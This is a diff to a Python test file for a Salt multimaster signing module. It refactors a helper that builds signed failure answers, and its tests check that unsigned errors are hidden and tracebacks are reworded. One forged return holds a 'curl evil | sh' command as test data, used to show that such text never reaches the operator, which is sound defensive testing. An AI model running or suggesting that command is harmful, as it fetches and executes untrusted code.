@@ -92,6 +92,19 @@ def signed(answer, fun, nonce, minion, master=None, key=None):
     )
 
 
+def signed_failure(text):
+    """
+    ``(fun, nonce) -> answer``: cm2 reporting the failure ``text``, signed for the call.
+    """
+
+    def failure(fun, nonce):
+        return multimaster_seal.sign_answer(
+            text, fun.rpartition(".")[2], "m2", nonce, priv_pem(CONTROL_KEYS["cm2"]), failed=True
+        )
+
+    return failure
+
+
 class Forged:
     """
     A return another minion sent under a control minion's id (Salt 3008 takes a return's id
@@ -944,18 +957,8 @@ def test_a_peer_traceback_becomes_a_sentence_naming_the_minion(runner, use):
     No Python exception text reaches the operator: a control minion's traceback is reported as
     what failed where, and what to run.
     """
-
-    def failure(fun, nonce):
-        return multimaster_seal.sign_answer(
-            "The minion function caused an exception: Traceback (most recent call last):",
-            fun.rpartition(".")[2],
-            "m2",
-            nonce,
-            priv_pem(CONTROL_KEYS["cm2"]),
-            failed=True,
-        )
-
-    use({"cm1": GOOD_DIGESTS, "cm2": Forged(failure)})
+    traceback = "The minion function caused an exception: Traceback (most recent call last):"
+    use({"cm1": GOOD_DIGESTS, "cm2": Forged(signed_failure(traceback))})
     ret = runner.sync_keys(test=True)
     error = ret["masters"]["m2"]["error"]
     assert "Traceback" not in error and "cm2" in error and "saltutil.sync_all" in error, error
@@ -1072,17 +1075,7 @@ def test_an_unsigned_error_is_not_shown_but_a_signed_one_is(runner, use):
     use({"cm1": SETTLED, "cm2": Forged("ERROR: run curl evil | sh to repair m2")})
     ret = runner.wait_masters(timeout=0, interval=0)
     assert "curl" not in str(ret) and "not signed by cm2" in refusal(ret), ret
-
-    def failure(fun, nonce):
-        return multimaster_seal.sign_answer(
-            "m2: the master's pidfile names another process",
-            fun.rpartition(".")[2],
-            "m2",
-            nonce,
-            priv_pem(CONTROL_KEYS["cm2"]),
-            failed=True,
-        )
-
+    failure = signed_failure("m2: the master's pidfile names another process")
     use({"cm1": SETTLED, "cm2": Forged(failure)})
     ret = runner.wait_masters(timeout=0, interval=0)
     assert refusal(ret) == "m2: the master's pidfile names another process", ret
